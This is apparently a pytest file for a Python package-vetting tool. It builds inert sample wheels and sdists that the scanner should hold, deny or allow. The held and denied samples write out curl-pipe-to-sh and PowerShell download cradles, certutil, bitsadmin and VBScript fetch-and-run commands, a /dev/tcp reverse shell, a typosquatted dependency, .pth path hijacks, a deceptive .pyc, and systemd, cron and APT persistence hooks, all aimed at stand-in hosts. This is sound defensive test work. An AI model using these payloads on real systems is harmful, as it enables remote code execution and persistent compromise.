"""The nineteenth probe (ADR 0111): an attacker whose payload is not Python run on import,
so a data-flow pass over ``.py`` files does not see it: a dependency fetched from a URL or
named like a popular project wherever a build or pip reads it, a start-up module installed
from a wheel's ``.data/purelib``, a ``.pth`` folder outside site-packages, a checked ``.pyc``
that Python loads in place of its source, and download-and-run scripts installed as
commands in the shapes PowerShell, Windows' tools, VBScript and ``sh`` write them, and files
installed under the prefix where systemd, cron, APT, the shell or pip run or trust them; an
sdist's command named by ``scripts=`` whatever its suffix, and a payload in a Cython source.

Each sample is inert (vetting only reads files; hosts are ``example.invalid``). The
near-misses are what real packages ship: dependencies with markers, a ``.pth`` of their
own folders or imports, stale bytecode, scripts that only download."""

from __future__ import annotations

import importlib.util
import marshal
import struct
import sys
from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.verdicts import with_dependencies
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

URL = "https://example.invalid/evdep-1.0.tar.gz"
INIT = {"evpkg/__init__.py": "def hello():\n    return 1\n"}
SETUP = "from setuptools import setup\nsetup(name='evpkg', version='1.0', packages=['evpkg'], {})\n"
BENIGN = "def hello():\n    return 1\n"
EVIL = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
PYCACHE = f"evpkg/__pycache__/__init__.{sys.implementation.cache_tag}.pyc"
POETRY = (
    "[build-system]\nrequires = ['poetry-core']\nbuild-backend = 'poetry.core.masonry.api'\n"
    "[tool.poetry]\nname = 'evpkg'\nversion = '1.0'\ndescription = 'x'\nauthors = ['x']\n"
    "[tool.poetry.dependencies]\npython = '^3.9'\n"
)
PYPROJECT = "[project]\nname = 'evpkg'\nversion = '1.0'\n"
DROPPER = "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
CYTHONIZE = (
    "from setuptools import setup\nfrom Cython.Build import cythonize\n"
    "setup(name='evpkg', ext_modules=cythonize('evpkg/core.pyx'))\n"
)

Sample = tuple[str, bytes]


def whl(files: Mapping[str, str | bytes], requires: str = "") -> Sample:
    return "evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", dict(files), requires=requires)


def tgz(files: dict[str, str]) -> Sample:
    return "evpkg-1.0.tar.gz", sdist("evpkg", "1.0", {"evpkg/__init__.py": "", **files})


def pyc(source: str, *, flags: int = 0, hashed: str | None = None) -> bytes:
    """Bytecode of ``source`` (PEP 552 header): hash-based when ``flags`` say so, holding
    the hash of ``hashed`` (the source it claims to be compiled from)."""
    head = importlib.util.MAGIC_NUMBER + struct.pack("<I", flags)
    digest = importlib.util.source_hash((hashed or source).encode()) if flags & 1 else bytes(8)
    return head + digest + marshal.dumps(compile(source, "evpkg/__init__.py", "exec"))


def command(name: str, text: str) -> Sample:
    """A wheel installing ``text`` as the command ``name`` (``.data/scripts``)."""
    return whl({**INIT, f"evpkg-1.0.data/scripts/{name}": text})


HELD: dict[str, Sample] = {
    # 1. A dependency fetched from a URL, declared where the metadata check did not look.
    "url-dependency-in-a-lowercase-header": whl(INIT, f"requires-dist: evdep @ {URL}\n"),
    "url-dependency-after-250-others": whl(
        INIT,
        "".join(f"Requires-Dist: dep{i}\n" for i in range(250)) + f"Requires-Dist: ev @ {URL}\n",
    ),
    "url-dependency-in-a-list-bound-to-a-name": tgz(
        {
            "setup.py": "from setuptools import setup\n"
            f"R = ['evdep @ {URL}']\nsetup(install_requires=R)\n"
        }
    ),
    "url-in-setup-requires": tgz({"setup.py": SETUP.format(f"setup_requires=['evdep @ {URL}']")}),
    "url-in-extras-require": tgz(
        {"setup.py": SETUP.format(f"extras_require={{'all': ['evdep @ {URL}']}}")}
    ),
    "url-in-a-requirements-file-setup-reads": tgz(
        {
            "setup.py": SETUP.format(
                "install_requires=open('requirements.txt').read().splitlines()"
            ),
            "requirements.txt": f"six\nevdep @ {URL}\n",
        }
    ),
    "url-in-a-requirements-file-pyproject-names": tgz(
        {
            "pyproject.toml": PYPROJECT + "dynamic = ['dependencies']\n"
            "[tool.setuptools.dynamic]\ndependencies = {file = ['requirements/base.in']}\n",
            "requirements/base.in": f"evdep@{URL}\n",
        }
    ),
    "url-in-pyproject-dependencies": tgz(
        {"pyproject.toml": PYPROJECT + f"dependencies = ['evdep @ {URL}']\n"}
    ),
    "url-in-pyproject-optional-dependencies": tgz(
        {
            "pyproject.toml": PYPROJECT
            + f"[project.optional-dependencies]\nall = ['evdep @ {URL}']\n"
        }
    ),
    "url-in-setup-cfg": tgz(
        {
            "setup.cfg": "[metadata]\nname = evpkg\n[options]\n"
            f"install_requires =\n    evdep @ {URL}\n",
            "setup.py": "from setuptools import setup\nsetup()\n",
        }
    ),
    "git-dependency-in-poetry": tgz(
        {"pyproject.toml": POETRY + "evdep = { git = 'https://example.invalid/evdep.git' }\n"}
    ),
    "url-dependency-in-poetry": tgz({"pyproject.toml": POETRY + f"evdep = {{ url = '{URL}' }}\n"}),
    "url-in-an-extra-of-requires-txt": tgz(
        {
            "evpkg.egg-info/requires.txt": f"six\n\n[all]\nevdep@ {URL}\n",
            "setup.py": SETUP.format(""),
        }
    ),
    # 2. A look-alike of a popular project among what the build installs first or an extra.
    "lookalike-in-setup-requires": tgz({"setup.py": SETUP.format("setup_requires=['reqeusts']")}),
    "lookalike-in-extras-require": tgz(
        {"setup.py": SETUP.format("extras_require={'http': ['reqeusts>=2']}")}
    ),
    "lookalike-in-a-list-bound-to-a-name": tgz(
        {"setup.py": "from setuptools import setup\nR = ['reqeusts']\nsetup(install_requires=R)\n"}
    ),
    "lookalike-in-pyproject-optional-dependencies": tgz(
        {"pyproject.toml": PYPROJECT + "[project.optional-dependencies]\nhttp = ['reqeusts']\n"}
    ),
    "lookalike-in-setup-cfg-extras": tgz(
        {
            "setup.cfg": "[options.extras_require]\nhttp =\n    reqeusts\n",
            "setup.py": "from setuptools import setup\nsetup()\n",
        }
    ),
    "lookalike-in-setup-cfg-setup-requires": tgz(
        {
            "setup.cfg": "[options]\nsetup_requires = reqeusts\n",
            "setup.py": "from setuptools import setup\nsetup()\n",
        }
    ),
    # 3. A start-up module installed at the top of site-packages from .data/purelib.
    "sitecustomize-in-data-purelib": whl(
        {**INIT, "evpkg-1.0.data/purelib/sitecustomize.py": "import os\n"}
    ),
    "usercustomize-in-data-platlib": whl(
        {**INIT, "evpkg-1.0.data/platlib/usercustomize.py": "import os\n"}
    ),
    # 4. A .pth folder outside site-packages: every Python imports what is dropped there.
    "pth-puts-tmp-on-the-path": whl({**INIT, "evpkg.pth": "/tmp\n"}),
    "pth-puts-a-hidden-shm-folder-on-the-path": whl({**INIT, "evpkg.pth": "/dev/shm/.x\n"}),
    "pth-climbs-out-of-site-packages": whl({**INIT, "evpkg.pth": "../../../../tmp\n"}),
    "pth-puts-a-public-windows-folder-on-the-path": whl(
        {**INIT, "evpkg.pth": "C:\\Users\\Public\\lib\n"}
    ),
    "pth-in-data-purelib-puts-var-tmp-on-the-path": whl(
        {**INIT, "evpkg-1.0.data/purelib/evpkg.pth": "/var/tmp\n"}
    ),
    # 5. A checked .pyc holding its source's hash: Python runs it, not the source.
    "checked-pyc-over-a-benign-source": whl(
        {"evpkg/__init__.py": BENIGN, PYCACHE: pyc(EVIL, flags=3, hashed=BENIGN)}
    ),
    # 6. Download-and-run scripts installed as commands.
    "powershell-downloadstring-cradle": command(
        "evcmd.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/x')\n"
    ),
    "powershell-iex-of-iwr": command("evcmd.ps1", "iex (iwr https://example.invalid/x)\n"),
    "certutil-download": command(
        "evcmd.bat", "certutil -urlcache -split -f https://example.invalid/x.exe x.exe && x.exe\n"
    ),
    "bitsadmin-download": command(
        "evcmd.cmd", "bitsadmin /transfer j https://example.invalid/x.exe %TEMP%\\x.exe\n"
    ),
    "vbscript-xmlhttp-then-run": command(
        "evcmd.vbs",
        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://example.invalid/x", False\n'
        'x.Send\nSet s = CreateObject("WScript.Shell")\ns.Run "x.exe"\n',
    ),
    "wget-to-a-file-chmod-and-run": command(
        "evcmd",
        "#!/bin/sh\nwget -q -O /tmp/.x https://example.invalid/x && chmod +x /tmp/.x && /tmp/.x\n",
    ),
    "curl-to-a-file-then-bash-it": command(
        "evcmd", "#!/bin/sh\ncurl -s https://example.invalid/x -o /tmp/x.sh; bash /tmp/x.sh\n"
    ),
    "base64-decoded-into-python": command(
        "evcmd", "#!/bin/sh\necho aW1wb3J0IG9z | base64 -d | python3\n"
    ),
    "reverse-shell-by-dev-tcp": command(
        "evcmd", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
    ),
    # 7. Files installed under the prefix where the system, the shell or pip runs them.
    "pip-conf-at-the-prefix": whl(
        {
            **INIT,
            "evpkg-1.0.data/data/pip.conf": "[global]\nindex-url = https://example.invalid/simple\n",
        }
    ),
    "systemd-generator": whl(
        {
            **INIT,
            "evpkg-1.0.data/data/lib/systemd/system-generators/evgen": "#!/bin/sh\nev-agent &\n",
        }
    ),
    "systemd-unit": whl(
        {
            **INIT,
            "evpkg-1.0.data/data/lib/systemd/system/evpkg.service": "[Service]\nExecStart=ev\n",
        }
    ),
    "apt-hook": whl(
        {
            **INIT,
            "evpkg-1.0.data/data/etc/apt/apt.conf.d/99ev": 'DPkg::Post-Invoke {"ev-agent";};\n',
        }
    ),
    "module-into-the-prefixs-standard-library": whl(
        {**INIT, "evpkg-1.0.data/data/lib/python3.11/os.py": "import sys\n"}
    ),
    "sitecustomize-into-site-packages-through-data": whl(
        {**INIT, "evpkg-1.0.data/data/lib/python3.12/site-packages/sitecustomize.py": "import os\n"}
    ),
    "environment-activate-script-replaced": whl(
        {**INIT, "evpkg-1.0.data/scripts/activate": "ev-agent &\n"}
    ),
    "cron-table-in-setup-py-data-files": tgz(
        {
            "setup.py": SETUP.format("data_files=[('/etc/cron.d', ['evpkg.cron'])]"),
            "evpkg.cron": "* * * * * root ev-agent\n",
        }
    ),
    "systemd-unit-in-setup-cfg-data-files": tgz(
        {
            "setup.cfg": "[options.data_files]\nlib/systemd/system = evpkg.service\n",
            "setup.py": "from setuptools import setup\nsetup()\n",
            "evpkg.service": "[Service]\n",
        }
    ),
    "pip-conf-in-pyproject-data-files": tgz(
        {
            "pyproject.toml": PYPROJECT + "[tool.setuptools.data-files]\n'.' = ['pip.conf']\n",
            "pip.conf": "[global]\nindex-url = https://example.invalid/simple\n",
        }
    ),
    # 8. An sdist's command without a script's suffix, installed by ``scripts=``.
    "shell-command-named-by-setup-py-scripts": tgz(
        {"setup.py": SETUP.format("scripts=['bin/evcmd']"), "bin/evcmd": DROPPER}
    ),
    "shell-command-named-by-pyproject-script-files": tgz(
        {
            "pyproject.toml": PYPROJECT + "[tool.setuptools]\nscript-files = ['bin/evcmd']\n",
            "bin/evcmd": DROPPER,
        }
    ),
}

DENIED: dict[str, Sample] = {
    # 9. A payload moved into a Cython source that setup.py cythonizes: its module level
    # runs when the built extension is imported.
    "payload-in-a-plain-python-pyx": tgz({"setup.py": CYTHONIZE, "evpkg/core.pyx": EVIL}),
    "payload-beside-cdef-functions-in-a-pyx": tgz(
        {
            "setup.py": CYTHONIZE,
            "evpkg/core.pyx": "cimport cython\ncdef int twice(int x):\n    return 2 * x\n" + EVIL,
        }
    ),
}

ALLOWED: dict[str, Sample] = {
    "cython-module-that-only-computes": tgz(
        {
            "setup.py": CYTHONIZE,
            "evpkg/core.pyx": "cimport cython\nimport math\ncdef class Box:\n    cdef int n\n"
            "    def size(self):\n        return self.n\n"
            "def area(r):\n    return math.pi * r * r\n",
        }
    ),
    "shell-command-that-only-runs-the-package": tgz(
        {
            "setup.py": SETUP.format("scripts=['bin/evcmd']"),
            "bin/evcmd": '#!/bin/sh\nexec python3 -m evpkg "$@"\n',
        }
    ),
    "manual-page-in-share": whl({**INIT, "evpkg-1.0.data/data/share/man/man1/ev.1": ".TH EV 1\n"}),
    "jupyter-config-and-kernel": whl(
        {
            **INIT,
            "evpkg-1.0.data/data/etc/jupyter/jupyter_server_config.d/evpkg.json": "{}\n",
            "evpkg-1.0.data/data/share/jupyter/kernels/ev/kernel.json": "{}\n",
        }
    ),
    "command-named-like-activate-but-longer": whl(
        {
            **INIT,
            "evpkg-1.0.data/scripts/activate-global-python-argcomplete": "#!python\nprint(1)\n",
        }
    ),
    "data-files-into-share-and-a-relative-etc": tgz(
        {
            "setup.py": SETUP.format(
                "data_files=[('share/applications', ['ev.desktop']), ('etc/evpkg', ['ev.conf'])]"
            )
        }
    ),
    "dependency-with-an-environment-marker": whl(
        INIT, "Requires-Dist: evdep>=1.0 ; python_version < '3.9' and extra == 'fast'\n"
    ),
    "setup-py-email-and-project-url": tgz(
        {
            "setup.py": SETUP.format(
                "author_email='dev@example.invalid', url='https://example.invalid/evpkg', "
                "install_requires=['six>=1.0'], setup_requires=['setuptools_scm'], "
                "extras_require={'http': ['requests>=2', 'urllib3; python_version>\"3\"']}"
            )
        }
    ),
    "requirements-file-with-an-index-setup-filters": tgz(
        {
            "setup.py": SETUP.format(
                "install_requires=[r for r in open('requirements.txt').read().splitlines() "
                "if not r.startswith('-')]"
            ),
            "requirements.txt": "--extra-index-url https://example.invalid/simple\nsix\n",
        }
    ),
    "readme-read-by-setup-with-an-install-line": tgz(
        {
            "setup.py": SETUP.format("long_description=open('README.txt').read()"),
            "README.txt": "Install the development version:\n\n    evpkg @ git+https://example.invalid/e\n",
        }
    ),
    "requirements-file-with-a-url-setup-never-reads": tgz(
        {
            "setup.py": SETUP.format("install_requires=['six']"),
            "docs/requirements.txt": f"theme @ {URL}\n",
        }
    ),
    "poetry-dev-group-from-git": tgz(
        {
            "pyproject.toml": POETRY + "[tool.poetry.group.dev.dependencies]\n"
            "lint = { git = 'https://example.invalid/l.git' }\n"
        }
    ),
    "sitecustomize-inside-the-package": whl({**INIT, "evpkg/sitecustomize.py": "import os\n"}),
    "pth-of-a-shipped-folder": whl({**INIT, "evpkg.pth": "evpkg/vendor\n"}),
    "pth-of-folders-as-pywin32-writes-them": whl(
        {**INIT, "evpkg.pth": "# .pth file for the extensions\nwin32\nwin32\\lib\nPythonwin\n"}
    ),
    "pth-test-fixture-deep-in-the-package": whl({**INIT, "evpkg/tests/data/abs.pth": "/tmp\n"}),
    "pth-distutils-precedence-as-setuptools-writes-it": whl(
        {
            **INIT,
            "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; "
            "enabled = os.environ.get(var, 'local') == 'local'; "
            "enabled and __import__('_distutils_hack').add_shim(); \n",
            "_distutils_hack/__init__.py": "def add_shim():\n    pass\n",
        }
    ),
    "timestamp-pyc-beside-its-source": whl({"evpkg/__init__.py": BENIGN, PYCACHE: pyc(BENIGN)}),
    "stale-checked-pyc-of-an-older-source": whl(
        {"evpkg/__init__.py": BENIGN, PYCACHE: pyc(EVIL, flags=3, hashed="x = 1\n")}
    ),
    "script-that-only-downloads": command(
        "evfetch",
        "#!/bin/sh\ncurl -sSL -o data.csv https://example.invalid/d.csv && echo done\n"
        "wget -O model.bin https://example.invalid/m.bin; ls model.bin\n",
    ),
    "script-that-decodes-base64-to-a-file": command(
        "evenc", "#!/bin/sh\nbase64 -d < in.b64 > out.bin\n"
    ),
    "powershell-that-downloads-a-file": command(
        "evget.ps1",
        "Invoke-WebRequest -Uri https://example.invalid/d.zip -OutFile d.zip\n"
        "Expand-Archive d.zip\n",
    ),
}


def _cases() -> list[object]:
    return [
        *(pytest.param(s, Outcome.DENY, id=f"deny-{n}") for n, s in sorted(DENIED.items())),
        *(pytest.param(s, Outcome.HOLD, id=f"hold-{n}") for n, s in sorted(HELD.items())),
        *(pytest.param(s, Outcome.ALLOW, id=f"allow-{n}") for n, s in sorted(ALLOWED.items())),
    ]


@pytest.mark.parametrize(("sample", "expected"), _cases())
def test_verdict(sample: Sample, expected: Outcome) -> None:
    assert vet(*sample).verdict is expected


@pytest.mark.parametrize(
    "sample",
    [
        tgz({"setup.py": SETUP.format("setup_requires=['evbad']")}),
        tgz({"setup.py": SETUP.format("extras_require={'x': ['evbad']}")}),
        tgz({"pyproject.toml": PYPROJECT + "[project.optional-dependencies]\nx = ['evbad']\n"}),
    ],
    ids=["setup-requires", "extras-require", "pyproject-optional-dependencies"],
)
def test_a_feed_listed_name_the_build_or_an_extra_installs_denies(sample: Sample) -> None:
    """A name the malicious-packages feed lists, installed by the build or an extra."""
    assert with_dependencies(vet(*sample), {"evbad"}).verdict is Outcome.DENY
